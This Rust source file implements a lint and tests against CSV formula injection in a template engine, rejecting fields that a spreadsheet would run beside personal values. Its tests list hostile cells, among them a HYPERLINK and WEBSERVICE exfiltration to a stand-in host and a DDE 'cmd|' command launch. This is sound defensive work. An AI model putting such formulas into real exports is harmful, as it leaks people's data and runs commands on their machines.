//! Formulas in CSV: a spreadsheet that opens the file runs them, and they read other cells and fetch addresses.

use super::escape::Escape;
use super::lint::Lint;
use super::place::Text;
use super::program::{Block, Op, Syntax, ValueOp, first_person};
use super::structured::{Csv, State};

/// What the text makes of a field that would be run, in a part with a person's values. What values make of one is
/// seen to when they are escaped.
pub(super) fn judge(ops: &[Op], text: &Text<'_>) -> Option<Lint> {
    if text.syntax != Syntax::Csv {
        return None;
    }
    let at = first_person(ops)?;
    let mut walk = Walk { fixed: text.fixed, is_formula: false };
    walk.ops(ops, Field { at: Csv::Begin, is_empty: true, is_signed: false });
    let cause = "a field begins as a formula (=, or + - @ before a value or a call), in one part with {{person.…}}: a spreadsheet \
                 would run it, and send other fields to an address in it";
    walk.is_formula.then(|| Lint::new(text.place, at, cause, "put an apostrophe or a word in front of it"))
}

/// Tells values that are a whole field, or have only text behind them that calls nothing: a number may stay one there.
pub(super) fn find_fields(ops: &mut [Op], text: &Text<'_>) {
    if text.syntax == Syntax::Csv {
        find_in(ops, text.fixed, true);
    }
}

fn find_in(ops: &mut [Op], fixed: &[Box<str>], is_whole_text: bool) {
    for index in 0..ops.len() {
        let (until, behind) = ops.split_at_mut(index + 1);
        match &mut until[index] {
            Op::Value(value) if value.escape == Escape::CsvQuotedBegin => {
                if ends_calmly(behind, fixed, is_whole_text) {
                    value.escape = Escape::CsvQuotedField;
                }
            }
            Op::Fixed(_) | Op::Value(_) => {}
            Op::If(branch) => find_in_block(&mut branch.block, fixed),
            Op::Each(each) | Op::With(each) => find_in_block(&mut each.block, fixed),
        }
    }
}

fn find_in_block(block: &mut Block, fixed: &[Box<str>]) {
    find_in(&mut block.body, fixed, false);
    find_in(&mut block.other, fixed, false);
}

/// Whether the field ends in the text that stands next. Behind the end of a block another quote may double the last one.
fn ends_calmly(behind: &[Op], fixed: &[Box<str>], is_whole_text: bool) -> bool {
    let [Op::Fixed(index), rest @ ..] = behind else { return false };
    let Some((inside, outside)) = fixed[*index].split_once('"') else { return false };
    let is_end = match outside.bytes().next() {
        None => is_whole_text && rest.is_empty(),
        Some(next) => next != b'"',
    };
    is_end && !inside.bytes().any(calls)
}

/// What stands behind the name of a function, a sheet or a program.
fn calls(byte: u8) -> bool {
    matches!(byte, b'(' | b'!' | b'|')
}

/// What a field may be so far.
#[derive(Clone, Copy)]
struct Field {
    at: Csv,
    /// Nothing, or values of the job that hold nothing.
    is_empty: bool,
    /// It begins with a sign that is a formula if more than a number follows.
    is_signed: bool,
}

struct Walk<'a> {
    fixed: &'a [Box<str>],
    is_formula: bool,
}

impl Walk<'_> {
    fn ops(&mut self, ops: &[Op], field: Field) -> Field {
        ops.iter().fold(field, |field, op| match op {
            Op::Fixed(index) => self.fixed[*index].bytes().fold(field, |field, byte| self.byte(field, byte)),
            Op::Value(value) => self.value(field, value),
            Op::If(branch) => self.block(&branch.block, field),
            Op::Each(each) | Op::With(each) => {
                let once = self.block(&each.block, field);
                self.block(&each.block, once)
            }
        })
    }

    fn block(&mut self, block: &Block, field: Field) -> Field {
        let (body, other) = (self.ops(&block.body, field), self.ops(&block.other, field));
        Field {
            at: body.at,
            is_empty: body.is_empty || other.is_empty,
            is_signed: body.is_signed || other.is_signed,
        }
    }

    fn byte(&mut self, field: Field, byte: u8) -> Field {
        let State::Csv(at) = State::Csv(field.at).step(byte) else { return field };
        if at == Csv::Begin {
            return Field { at, is_empty: true, is_signed: false };
        }
        if field.at == Csv::Begin && at == Csv::QuotedBegin {
            return Field { at, ..field };
        }
        self.is_formula |= field.is_empty && byte == b'=' || field.is_signed && calls(byte);
        let is_sign = matches!(byte, b'+' | b'-' | b'@');
        Field { at, is_empty: false, is_signed: field.is_signed || field.is_empty && is_sign }
    }

    fn value(&mut self, field: Field, value: &ValueOp) -> Field {
        let is_jobs = value.origin.person.is_none();
        self.is_formula |= field.is_signed && is_jobs;
        Field { is_empty: field.is_empty && is_jobs, ..field }
    }
}

#[cfg(test)]
mod tests {
    use crate::render::escape::Escape;
    use crate::render::program::{Op, Program, Syntax};

    /// How the first value of a text is escaped.
    fn first_escape(ops: &[Op]) -> Option<Escape> {
        ops.iter().find_map(|op| match op {
            Op::Fixed(_) => None,
            Op::Value(value) => Some(value.escape),
            Op::If(branch) => first_escape(&branch.block.body),
            Op::Each(each) | Op::With(each) => first_escape(&each.block.body),
        })
    }

    #[test]
    fn p3_a_number_stays_one_only_where_nothing_makes_a_formula_of_it() {
        let escape = |csv: &str| first_escape(&Program::compile(csv, Syntax::Csv, "t").unwrap().ops).unwrap();
        for csv in [
            "\"{{data.x}} {{data.y}}\"\n",
            "\"{{data.x}}&WEBSERVICE(A1)\"\n",
            "\"{{person.phone}}-{{data.x}}\"\n",
            "\"{{data.x}}\"\"&cmd|x\"\n",
            "{{#if data.l}}\"{{data.x}}\"{{else}}\"b\"{{/if}}\n",
            "\"{{#if data.x}}{{data.x}}{{/if}}{{data.y}}\"\n",
        ] {
            assert_eq!(escape(csv), Escape::CsvQuotedBegin, "{csv}");
        }
        for csv in [
            "\"{{data.x}}\"",
            "\"{{data.x}}\",a\n",
            "\"{{data.x}} EUR\"\n",
            "{{#each data.l}}\"{{this}}\",{{/each}}\n",
        ] {
            assert_eq!(escape(csv), Escape::CsvQuotedField, "{csv}");
        }
    }

    #[test]
    fn p3_no_text_of_a_template_makes_a_formula_beside_a_person() {
        let is_taken = |csv: &str| Program::compile(csv, Syntax::Csv, "t").is_ok();
        for cell in [
            "=HYPERLINK(\"\"https://t.example/?\"\"&A1)",
            "={{data.x}}",
            "-1+WEBSERVICE(A1)",
            "@SUM(A1)",
            "+{{data.x}}",
            "{{data.x}}=WEBSERVICE(A1)",
            "{{#if data.x}}a{{/if}}=WEBSERVICE(A1)",
            "{{data.x}}+{{data.y}}",
            "{{#each data.l}}{{this}}-{{/each}}",
            "-cmd|' /C calc'!A0",
        ] {
            assert!(!is_taken(&format!("{{{{person.city}}}},\"{cell}\"\r\n")), "{cell}");
            assert!(!is_taken(&format!("\"{cell}\"\n{{{{person.city}}}}")), "{cell}");
        }
        for cell in [
            "-5",
            "a=b",
            "{{person.city}}-{{data.x}}",
            " - {{data.x}}",
            "+49 {{person.phone}}",
            "'={{data.x}}",
            "",
        ] {
            assert!(is_taken(&format!("{{{{person.city}}}},\"{cell}\"\r\n")), "{cell}");
        }
        assert!(is_taken("=A1+A2,{{data.x}}"), "without a person it is the engine's own");
    }
}
